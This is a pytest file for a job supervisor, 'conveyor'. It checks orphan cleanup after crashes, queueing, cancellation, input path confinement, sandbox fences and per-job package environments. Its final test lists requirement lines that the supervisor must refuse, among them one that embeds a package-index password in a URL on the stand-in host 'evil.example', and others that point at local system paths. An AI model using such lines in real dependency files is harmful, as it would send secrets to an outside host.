"""What the supervisor promises about many jobs, crashes and environments."""

import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from conveyor.data.memory import MemoryDatasets, MemoryObjects
from conveyor.domain.jobs import CANCELLED, FAILED, SUCCEEDED
from conveyor.jobs import tree
from conveyor.jobs.fences import Fences
from conveyor.jobs.local import LocalJobs

ENGINE = """
import sys, time
from pathlib import Path
from conveyor.data.memory import MemoryDatasets, MemoryObjects
from conveyor.domain.jobs import JobSpec
from conveyor.jobs.fences import Fences
from conveyor.jobs.local import LocalJobs

state, fenced = Path(sys.argv[1]), sys.argv[2] == "fenced"
objects = MemoryObjects()
jobs = LocalJobs(state, objects, lambda c, f: None, python=Path(sys.executable),
    datasets=MemoryDatasets(objects), on_finished=print, settings={},
    fences=Fences(namespaces=fenced, landlock=fenced))
jobs.start()
code = b"import os, time\\nif os.fork() == 0: os.setsid()\\nprint('at work', flush=True)\\n" \\
    b"time.sleep(float(open('seconds').read()))\\nopen('out/done', 'w').write('yes')"
jobs.ensure(JobSpec(kind="train", key="lives", owner="wine", command=("python", "job.py"),
    files={"job.py": code, "seconds": b"SECONDS"}))
time.sleep(600)
"""


def wait_for(condition, seconds=15.0):
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "waited in vain"
        time.sleep(0.02)


@pytest.mark.parametrize("fences", ["fenced", "bare"])
def test_a_killed_engine_leaves_no_orphan_and_its_job_is_done_by_the_next(tmp_path, fences):
    script = ENGINE.replace("SECONDS", "2")
    engine = subprocess.Popen([sys.executable, "-c", script, str(tmp_path), fences])
    log = tmp_path / "jobs/lives/log"
    wait_for(lambda: log.exists() and log.read_bytes().count(b"at work") == 2)
    orphans = tree.marked("CONVEYOR_RUN", "lives")
    assert len(orphans) >= 2
    os.kill(engine.pid, signal.SIGKILL)
    engine.wait()
    objects, told = MemoryObjects(), []
    fenced = fences == "fenced"
    jobs = LocalJobs(
        tmp_path,
        objects,
        lambda _commit, _folder: None,
        datasets=MemoryDatasets(objects),
        python=Path(sys.executable),
        on_finished=told.append,
        settings={},
        fences=Fences(namespaces=fenced, landlock=fenced),
    )
    jobs.start()
    assert not set(orphans) & set(tree.marked("CONVEYOR_RUN", "lives"))
    wait_for(lambda: told)
    jobs.stop()
    assert told[0].state == SUCCEEDED
    assert objects.read(told[0].outputs["done"]) == b"yes"
    assert list((tmp_path / "jobs").iterdir()) == []


def test_a_stopped_engine_keeps_its_jobs_for_the_next(bench, python_job):
    spec = python_job("import time; time.sleep(0 if open('n').read() == '2' else 60)", key="again")
    bench.jobs.ensure(replace(spec, files={**spec.files, "n": b"1"}))
    wait_for(lambda: bench.jobs.running()[0].phase == "work")
    bench.jobs.stop()
    assert bench.told == []
    assert tree.marked("CONVEYOR_RUN", "again") == ()
    kept = json.loads((bench.state / "jobs/again/spec.json").read_text())
    assert kept["spec"]["owner"] == "wine"


def test_one_runs_and_the_newest_waits_per_owner(bench, python_job):
    for number in range(4):
        bench.jobs.ensure(python_job("import time; time.sleep(30)", key=f"k{number}"))
    wait_for(lambda: bench.jobs.running()[0].phase == "work")
    assert [(job.key, job.phase) for job in bench.jobs.running()] == [
        ("k0", "work"),
        ("k3", "waiting"),
    ]


def test_the_waiting_job_runs_when_the_first_ends(bench, python_job):
    bench.jobs.ensure(python_job("import time; time.sleep(0.3)", key="k1"))
    assert bench.end_of(python_job("print('second')", key="k2")).log == "second\n"
    assert [result.key for result in bench.told] == ["k1", "k2"]


def test_slots_bound_how_many_work_at_once(bench, python_job):
    for owner in ("a", "b", "c"):
        bench.jobs.ensure(python_job("import time; time.sleep(30)", key=owner, owner=owner))
    wait_for(lambda: [job.phase for job in bench.jobs.running()].count("work") == 2)
    assert bench.jobs.running()[2].phase == "waiting"


def test_a_cancelled_run_stores_nothing_and_is_not_told(bench, python_job):
    bench.jobs.ensure(python_job("import time; time.sleep(30)", key="gone"))
    wait_for(lambda: bench.jobs.running()[0].phase == "work")
    bench.jobs.cancel("gone")
    wait_for(lambda: not (bench.state / "jobs/gone").exists())
    assert bench.told == []
    assert bench.jobs.result("gone") is None
    assert CANCELLED not in [result.state for result in bench.told]


def test_a_result_that_is_there_is_adopted(bench, python_job):
    first = bench.end_of(python_job("print('one')"))
    bench.jobs.ensure(python_job("print('two')"))
    assert bench.jobs.running() == ()
    assert bench.jobs.result("k1") == first


def test_a_store_that_does_not_answer_delays_the_run_only(tmp_path, bench, python_job):
    stuck = tmp_path / "not-yet"

    class Shy(MemoryObjects):
        def put(self, key: str, body: bytes | Path) -> None:
            if not stuck.exists():
                stuck.touch()
                raise OSError(28, "No space left on device")
            super().put(key, body)

    told = []
    jobs = LocalJobs(
        tmp_path / "other",
        Shy(),
        lambda _commit, _folder: None,
        datasets=MemoryDatasets(MemoryObjects()),
        python=Path(sys.executable),
        on_finished=told.append,
        settings={},
    )
    jobs.start()
    jobs.ensure(python_job("open('out/m', 'w').write('m')"))
    wait_for(lambda: told)
    jobs.stop()
    assert told[0].state == SUCCEEDED


def test_a_run_that_fails_on_a_full_disk_is_done_again_when_there_is_room(bench, python_job):
    rooms = iter([0, 2**40])
    bench.jobs._shop = replace(bench.jobs._shop, room=lambda _: next(rooms))
    assert bench.end_of(python_job("raise SystemExit('no space left')")).state == FAILED
    assert next(rooms, "asked twice") == "asked twice"


def test_inputs_are_laid_out_and_a_lost_one_is_a_failure(bench, python_job):
    bench.objects.put("_conveyor/dvc/files/md5/aa/bb", b"rows")
    key = "_conveyor/dvc/files/md5/aa/bb"
    spec = replace(python_job("print(open('data/a.csv').read())"), inputs={"data/a.csv": key})
    assert bench.end_of(spec).log == "rows\n"
    lost = replace(spec, key="k2", inputs={"data/a.csv": "_conveyor/dvc/files/md5/aa/cc"})
    assert bench.end_of(lost).state == FAILED


def test_inputs_never_leave_the_work_folder(bench, python_job):
    bench.objects.put("_conveyor/x", b"rows")
    spec = replace(python_job("pass"), inputs={"../../escaped": "_conveyor/x"})
    assert "no path inside" in bench.end_of(spec).reason
    assert not (bench.state / "jobs/escaped").exists()


@pytest.mark.parametrize("landlock", [True, False])
def test_without_namespaces_nothing_of_a_run_survives_either(tmp_path, python_job, landlock):
    told = []
    jobs = LocalJobs(
        tmp_path / "bare",
        MemoryObjects(),
        lambda _commit, _folder: None,
        datasets=MemoryDatasets(MemoryObjects()),
        python=Path(sys.executable),
        on_finished=told.append,
        settings={},
        fences=Fences(namespaces=False, landlock=landlock),
    )
    jobs.start()
    code = (
        "import os, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    os.fork()\n    time.sleep(600)\n"
        "time.sleep(0.3)"
    )
    jobs.ensure(python_job(code, key="bare"))
    wait_for(lambda: told)
    jobs.stop()
    assert told[0].state == SUCCEEDED
    assert tree.marked("CONVEYOR_RUN", "bare") == ()
    assert sum("NOT cut off" in layer for layer in jobs.containment()) == (1 if landlock else 3)


@pytest.fixture
def wheels(tmp_path):
    """A folder with one tiny wheel, so that no package index is needed."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    info = "grapes-1.2.dist-info"
    with zipfile.ZipFile(folder / "grapes-1.2-py3-none-any.whl", "w") as wheel:
        wheel.writestr("grapes.py", "COLOUR = 'red'\n")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: grapes\nVersion: 1.2\n")
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{info}/RECORD", f"grapes.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n")
    return folder


@pytest.fixture
def isolated(tmp_path, wheels):
    told = []
    jobs = LocalJobs(
        tmp_path / "state",
        MemoryObjects(),
        lambda _commit, _folder: None,
        datasets=MemoryDatasets(MemoryObjects()),
        python=Path(sys.executable),
        on_finished=told.append,
        settings={"UV_OFFLINE": "1", "UV_FIND_LINKS": str(wheels), "HOME": str(tmp_path)},
    )
    jobs.start()
    yield jobs, told
    jobs.stop()


def test_requirements_get_their_own_environment_once(isolated, python_job, tmp_path):
    jobs, told = isolated
    code = "import grapes, importlib.util\nprint(grapes.COLOUR, importlib.util.find_spec('dvc'))"
    for key in ("k1", "k2"):
        jobs.ensure(replace(python_job(code, key=key), requirements="grapes==1.2\n"))
        wait_for(lambda key=key: any(result.key == key for result in told))
    assert told[0].log.endswith("red None\n")
    assert told[1].log == "red None\n"
    assert len(list((tmp_path / "state/environments").glob("*/bin/python"))) == 1


def test_requirements_that_cannot_be_met_are_the_runs_failure(isolated, python_job):
    jobs, told = isolated
    jobs.ensure(replace(python_job("pass"), requirements="grapes==9.9\n"))
    wait_for(lambda: told)
    assert told[0].state == FAILED
    assert "grapes==9.9" in told[0].reason


@pytest.mark.parametrize(
    "line",
    [
        "-r other.txt",
        "--index-url https://x",
        "a @ file:///etc",
        "a @ /etc/a.whl",
        "/etc/a.whl",
        "./a.whl",
        "a @ https://evil.example/${UV_INDEX_PASSWORD}/a-1-py3-none-any.whl",
    ],
)
def test_options_in_requirements_are_refused(isolated, python_job, line):
    jobs, told = isolated
    jobs.ensure(replace(python_job("pass"), requirements=f"grapes\n{line}\n"))
    wait_for(lambda: told)
    assert "not supported" in told[0].reason
